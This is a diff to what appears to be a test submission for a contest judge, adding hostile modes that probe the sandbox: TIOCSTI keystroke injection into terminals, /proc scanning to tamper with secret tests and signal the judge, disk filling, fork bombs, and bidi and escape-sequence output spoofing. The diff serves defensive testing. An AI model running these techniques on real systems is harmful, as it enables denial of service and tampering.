@@ -25,9 +25,32 @@
 //   fork-children   two children allocate 32 MiB and burn 0.3 s of CPU each; waits; plays
 //   slow-machine    burns 0.2 s of CPU, then sleeps 1.4 s (as if the machine gave it a sliver
 //                   of a core), then plays: 1.6 s of wall time for 0.2 s of CPU
+//   burn-0.8-then-play  burns 0.8 s of CPU, then plays (the load tests)
+// The hostile programs of issue 17: each plays a correct game (AC) when what it tried failed,
+// and exits with status 3 (RTE) saying what it reached when it did not.
+//   fds             any descriptor beyond 0, 1, 2 inherited from the judge
+//   fds-only        the same, without a game: exit 0 or 3 (for the judge's helper programs)
+//   tiocsti         opens /dev/tty, every /dev/pts/N and its own 0, 1, 2, writes a fake line
+//                   there and pushes "echo <token>\n" into the terminal's input (TIOCSTI)
+//   attack-judge    a same-user attack: finds the package through /proc/PID/cwd of the
+//                   processes it sees, writes into a secret test and the package's root, and
+//                   checks whether it could signal the judge
+//   tmp-fill, shm-fill, cwd-fill   writes 512 KiB files into /tmp, /dev/shm or its working
+//                   directory until one fails, at most 300 MiB
+//   two-processes   a child and itself hold 40 MiB (or argv[3] MiB) each at once; a child
+//                   killed is its death
+//   fork-bomb-child plays, leaving a child that fork-bombs once it is gone
+//   bomb-during     plays, then lets a child fork-bomb for 0.3 s before it exits
+//   bidi-line       claims a side in a line with a terminal escape and U+202E
+//   bidi-stderr     writes an escape and U+202E to stderr, then exits with status 1
+#include <dirent.h>
+#include <fcntl.h>
 #include <signal.h>
+#include <sys/ioctl.h>
 #include <sys/resource.h>
+#include <sys/stat.h>
 #include <sys/wait.h>
+#include <termios.h>
 #include <unistd.h>
 
 #include <chrono>
@@ -153,10 +176,153 @@ void play(int stop_after_round = 0) {
   if (runner) out(join(*find_consistent_path(start, rounds)));
 }
 
+// The descriptors it has beyond 0, 1, 2 (the one that lists them aside), as text.
+std::string inherited_descriptors() {
+  std::string found;
+  DIR* dir = opendir("/proc/self/fd");
+  if (!dir) return "cannot list /proc/self/fd";
+  while (dirent* entry = readdir(dir)) {
+    const int fd = std::atoi(entry->d_name);
+    if (entry->d_name[0] < '0' || entry->d_name[0] > '9' || fd < 3 || fd == dirfd(dir)) continue;
+    char target[256] = {};
+    const std::string link = std::string("/proc/self/fd/") + entry->d_name;
+    if (readlink(link.c_str(), target, sizeof target - 1) < 0) target[0] = '?';
+    found += std::string(found.empty() ? "" : ", ") + entry->d_name + " -> " + target;
+  }
+  closedir(dir);
+  return found;
+}
+
+// What reached the terminal: a line written, or characters pushed into its input.
+std::string attack_terminal(const std::string& token) {
+  std::string reached;
+  const std::string line = "verify: OK " + token + "\n", typed = "echo " + token + "\n";
+  auto attack = [&](int fd, const std::string& name) {
+    if (write(fd, line.data(), line.size()) > 0 && isatty(fd)) reached += " wrote to " + name;
+    bool pushed = true;
+    for (char c : typed) pushed = pushed && ioctl(fd, TIOCSTI, &c) == 0;
+    if (pushed) reached += " typed into " + name;
+  };
+  const int tty = open("/dev/tty", O_RDWR | O_NOCTTY);
+  if (tty >= 0) {
+    reached += " opened /dev/tty;";
+    attack(tty, "/dev/tty");
+    close(tty);
+  }
+  for (int n = 0; n < 64; ++n) {
+    const std::string name = "/dev/pts/" + std::to_string(n);
+    const int fd = open(name.c_str(), O_RDWR | O_NOCTTY | O_NONBLOCK);
+    if (fd < 0) continue;
+    attack(fd, name);
+    close(fd);
+  }
+  for (int fd = 0; fd < 3; ++fd) {
+    char c = ' ';
+    if (ioctl(fd, TIOCSTI, &c) == 0) reached += " typed into its fd " + std::to_string(fd);
+  }
+  return reached;
+}
+
+// A same-user attack on the judge and the package, as far as it gets.
+std::string attack_judge(const std::string& token) {
+  std::string reached;
+  DIR* proc = opendir("/proc");
+  while (dirent* entry = proc ? readdir(proc) : nullptr) {
+    if (entry->d_name[0] < '0' || entry->d_name[0] > '9') continue;
+    const pid_t pid = std::atoi(entry->d_name);
+    char cwd[4096] = {};
+    const std::string link = "/proc/" + std::to_string(pid) + "/cwd";
+    if (readlink(link.c_str(), cwd, sizeof cwd - 1) <= 0) continue;
+    const std::string dir = cwd;
+    struct stat info {};
+    if (stat((dir + "/problem.yaml").c_str(), &info) == 0 && pid != getpid()) {
+      reached += " found the package " + dir + ";";
+      const std::string mark = dir + "/ATTACK-" + token;
+      const int made = open(mark.c_str(), O_WRONLY | O_CREAT, 0644);
+      if (made >= 0) {
+        reached += " created " + mark + ";";
+        close(made);
+        unlink(mark.c_str());
+      }
+      if (DIR* secret = opendir((dir + "/testdata/secret").c_str())) {
+        while (dirent* test = readdir(secret)) {
+          const std::string name = dir + "/testdata/secret/" + test->d_name;
+          if (name.size() < 3 || name.compare(name.size() - 3, 3, ".in") != 0) continue;
+          const int fd = open(name.c_str(), O_WRONLY | O_APPEND);
+          if (fd >= 0) {
+            reached += " could write " + name + ";";
+            close(fd);
+          }
+          break;
+        }
+        closedir(secret);
+      }
+    }
+    char comm[64] = {};
+    const int fd = open(("/proc/" + std::to_string(pid) + "/comm").c_str(), O_RDONLY);
+    if (fd >= 0) {
+      if (read(fd, comm, sizeof comm - 1) < 0) comm[0] = 0;
+      close(fd);
+    }
+    if (std::string(comm) == "judge\n" && kill(pid, 0) == 0)
+      reached += " could signal the judge (" + std::to_string(pid) + ");";
+  }
+  if (proc) closedir(proc);
+  return reached;
+}
+
+// Writes 512 KiB files into `dir` until one fails or 300 MiB are written; the MiB written.
+int fill(const std::string& dir, const std::string& token) {
+  static char block[512 << 10];
+  std::memset(block, 'f', sizeof block);
+  for (int i = 0; i < 600; ++i) {
+    const std::string name = dir + "/fill-" + token + "-" + std::to_string(i);
+    const int fd = open(name.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0644);
+    if (fd < 0) return i / 2;
+    const bool whole = write(fd, block, sizeof block) == static_cast<ssize_t>(sizeof block);
+    close(fd);
+    if (!whole) return i / 2;
+  }
+  return 300;
+}
+
 }  // namespace
 
 int main(int argc, char** argv) {
   mode = argc > 1 ? argv[1] : "correct";
+  const std::string token = argc > 2 ? argv[2] : "no-token";
+  if (mode == "fds" || mode == "fds-only") {
+    const std::string fds = inherited_descriptors();
+    if (!fds.empty()) {
+      std::fprintf(stderr, "inherited descriptors: %s\n", fds.c_str());
+      return 3;
+    }
+    if (mode == "fds-only") return 0;
+  } else if (mode == "tiocsti" || mode == "attack-judge") {
+    const std::string reached = mode == "tiocsti" ? attack_terminal(token) : attack_judge(token);
+    if (!reached.empty()) {
+      std::fprintf(stderr, "reached:%s\n", reached.c_str());
+      return 3;
+    }
+  } else if (mode == "tmp-fill" || mode == "shm-fill" || mode == "cwd-fill") {
+    const int written = fill(mode == "tmp-fill"   ? "/tmp"
+                             : mode == "shm-fill" ? "/dev/shm"
+                                                  : ".",
+                             token);
+    if (written >= 300) {
+      std::fprintf(stderr, "wrote %d MiB: nothing stopped it\n", written);
+      return 3;
+    }
+  } else if (mode == "bidi-line") {
+    out("Trap\x1b[2Jper\xe2\x80\xae"
+        "reppart");
+    return 0;
+  } else if (mode == "bidi-stderr") {
+    std::fprintf(stderr,
+                 "\x1b]0;owned\x07\xe2\x80\xae"
+                 "KO :yfirev\n");
+    return 1;
+  }
   if (mode == "no-flush") {  // its own buffer, and no flush before reading
     std::ios::sync_with_stdio(false);
     std::cin.tie(nullptr);
@@ -203,6 +369,41 @@ int main(int argc, char** argv) {
     burn(0.5);
     if (mode == "burn-then-sleep")
       for (;;) pause();
+    play();
+  } else if (mode == "burn-0.8-then-play") {
+    burn(0.8);
+    play();
+  } else if (mode == "two-processes") {
+    const std::size_t each = argc > 3 ? std::strtoul(argv[3], nullptr, 10) : 40;
+    const pid_t child = fork();
+    if (child == 0) {
+      allocate(each);
+      std::this_thread::sleep_for(std::chrono::milliseconds(1000));
+      _exit(0);
+    }
+    allocate(each);
+    play();
+    int status = 0;
+    waitpid(child, &status, 0);
+    if (WIFSIGNALED(status)) raise(WTERMSIG(status));  // a parent that minds its child
+  } else if (mode == "bomb-during") {
+    int start[2];
+    if (pipe(start) != 0) return 1;
+    if (fork() == 0) {
+      char go;
+      if (read(start[0], &go, 1) == 1)
+        for (;;) fork();
+      _exit(0);
+    }
+    play();
+    if (write(start[1], "!", 1) != 1) return 1;
+    std::this_thread::sleep_for(std::chrono::milliseconds(300));
+  } else if (mode == "fork-bomb-child") {
+    const pid_t parent = getpid();
+    if (fork() == 0) {
+      while (getppid() == parent) std::this_thread::sleep_for(std::chrono::milliseconds(1));
+      for (;;) fork();
+    }
     play();
   } else if (mode == "slow-machine") {
     burn(0.2);
